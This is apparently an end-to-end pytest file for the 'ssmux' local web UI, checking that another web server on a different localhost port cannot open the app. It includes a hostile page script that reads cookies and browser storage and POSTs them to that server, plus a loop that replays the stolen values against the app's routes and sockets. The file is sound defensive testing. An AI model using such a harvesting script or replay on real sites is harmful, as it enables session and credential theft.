"""The app in real Chromium: another local web server gets nothing that opens it; a closed page is quiet.

``ssmux ui --no-show`` runs as a subprocess on an ssmux home with one saved profile, and Playwright drives
Debian's Chromium. The hostile side is a plain HTTP server on another port of 127.0.0.1, as any local
program could run: the same browser visits it after opening the app, and it keeps every header its
requests carry and what its page's script can read. Browsers send a host's cookies to all its ports, so it
does get the app's cookie; replaying everything it got, from outside the browser, must still open nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from tests.support.app import RunningUi, running_ui
from tests.support.browser import CHROMIUM, CHROMIUM_ARGS

pytestmark = pytest.mark.e2e
playwright_api = pytest.importorskip("playwright.sync_api", reason="needs Playwright: pip install playwright")

PROFILE = "victim-web"
SOCKET_IO = "/_nicegui_ws/socket.io/?EIO=4&transport="
TIMEOUT_MS = 30_000


@pytest.fixture
def app(tmp_path: Path) -> Iterator[RunningUi]:
    """``ssmux ui --no-show`` with debug logging, on a home holding the saved profile ``victim-web``."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (install Debian's chromium package)")
    subprocess.run(
        [sys.executable, "-m", "ssmux", "profile", "add", PROFILE, "--instance-id", "i-0123456789abcdef0"],
        check=True,
        capture_output=True,
    )
    env = {**os.environ, "SSMUX_DEBUG": "1", "PYTHONUNBUFFERED": "1"}
    with running_ui(tmp_path / "ui.log", env) as running:
        yield running


@dataclass
class Captured:
    """What the other local server saw: request headers, and what its page's script could read."""

    headers: list[dict[str, str]] = field(default_factory=list)
    page_reports: list[dict[str, Any]] = field(default_factory=list)
    reported: threading.Event = field(default_factory=threading.Event)


HOSTILE_PAGE = """<!doctype html><html><body>hello
<script>
const report = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage},
                href: location.href};
fetch("/report", {method: "POST", body: JSON.stringify(report)});
</script></body></html>"""


@pytest.fixture
def hostile() -> Iterator[tuple[str, Captured]]:
    """Another web server on 127.0.0.1 (another port): it records everything and serves a prying page."""
    captured = Captured()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            captured.headers.append(dict(self.headers.items()))
            body = HOSTILE_PAGE.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            captured.headers.append(dict(self.headers.items()))
            length = int(self.headers.get("content-length", "0"))
            captured.page_reports.append(json.loads(self.rfile.read(length)))
            self.send_response(204)
            self.end_headers()
            captured.reported.set()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", captured
    finally:
        server.shutdown()
        server.server_close()


def console_errors(page: playwright_api.Page) -> list[str]:
    """Collects the page's console errors and uncaught exceptions (the test fails on any)."""
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    return errors


def open_app(context: playwright_api.BrowserContext, app: RunningUi) -> tuple[playwright_api.Page, list[str]]:
    """The app in a new tab of ``context`` through the printed URL, its profile drawn."""
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    errors = console_errors(page)
    page.goto(app.url)
    page.locator(".ssmux-row", has_text=PROFILE).wait_for()
    return page, errors


def everything_captured(captured: Captured) -> tuple[str, list[str]]:
    """The Cookie header the hostile server received, and every value it or its page saw."""
    cookie = next((h["Cookie"] for h in captured.headers if "Cookie" in h), "")
    values = [part.split("=", 1)[1] for part in cookie.split("; ") if "=" in part]
    for report in captured.page_reports:
        values += [v for v in report["cookie"].split("; ") if v]
        values += list(report["local"].values()) + list(report["session"].values())
    return cookie, values


def test_another_local_server_gets_nothing_that_opens_the_app(
    app: RunningUi, hostile: tuple[str, Captured]
) -> None:
    """A page on another port, visited after the app, gets its cookie; replaying all it got opens nothing."""
    hostile_url, captured = hostile
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            page, errors = open_app(context, app)
            prying = context.new_page()
            prying.goto(hostile_url + "/")
            assert captured.reported.wait(TIMEOUT_MS / 1000)
            # The app still works in the browser: a dialog opens through its socket.
            page.get_by_role("button", name="New connection").first.click()
            page.get_by_text("New connection", exact=True).wait_for()
            assert errors == []
            context.close()
            # The printed URL was used: in another browser profile it opens nothing, and says why.
            stranger = browser.new_context()
            reused = stranger.new_page()
            reused.goto(app.url)
            assert "already used" in reused.inner_text("body")
            assert PROFILE not in reused.content()
            stranger.close()
        finally:
            browser.close()

    cookie, values = everything_captured(captured)
    assert f"ssmux_access_{app.port}=" in cookie  # what browsers do: the cookie went to the other port
    assert captured.page_reports[0]["local"] == {} and captured.page_reports[0]["session"] == {}
    for host in (f"127.0.0.1:{app.port}", f"localhost:{app.port}"):
        for origin in (None, app.base, hostile_url):
            headers = {"Host": host, "Cookie": cookie}
            if origin:
                headers["Origin"] = origin
            for value in [*values, ""]:
                headers["X-Ssmux-Key"] = value
                for path in ("/", "/settings", "/forwards", f"/?ssmux_key={value}"):
                    response = httpx.get(app.base + path, headers=headers, timeout=10)
                    assert PROFILE not in response.text, (path, headers)
                    assert "client_id" not in response.text
                polling = httpx.get(app.base + SOCKET_IO + "polling&ssmux_key=" + value, headers=headers)
                assert polling.status_code == 403
    ws_url = f"ws://127.0.0.1:{app.port}{SOCKET_IO}websocket"
    for value in [*values, ""]:
        with pytest.raises(InvalidStatus) as refused:
            connect(
                ws_url + "&ssmux_key=" + value,
                origin=app.base,  # type: ignore[arg-type]
                additional_headers={"Cookie": cookie, "X-Ssmux-Key": value},
                open_timeout=10,
            )
        assert refused.value.response.status_code == 403


def test_closing_the_page_during_a_confirmation_is_quiet(app: RunningUi) -> None:
    """The browser closes while 'Delete profile?' is open: no traceback on the server, and it serves on."""
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            page, errors = open_app(context, app)
            page.locator(".ssmux-row", has_text=PROFILE).click(button="right")
            page.get_by_text("Delete…").click()
            page.get_by_text(f"Delete profile {PROFILE!r}?").wait_for()
            assert errors == []
            page.close()
            # The server removes a closed page after its reconnect timeout; debug logging says when.
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and "closed page was removed" not in app.stderr():
                time.sleep(0.2)
            assert "closed page was removed" in app.stderr()

            # The app serves on: a new tab of the same browser opens it, the profile still there. (By then
            # the task that awaited the dialog has resumed and finished: it runs right after the removal.)
            again = context.new_page()
            again_errors = console_errors(again)
            again.goto(app.base + "/")
            again.locator(".ssmux-row", has_text=PROFILE).wait_for(timeout=TIMEOUT_MS)
            assert again_errors == []
            for noise in ("Traceback", "ValueError", "still being used", "Stack (most recent call last)"):
                assert noise not in app.stderr(), app.stderr()
            context.close()
        finally:
            browser.close()
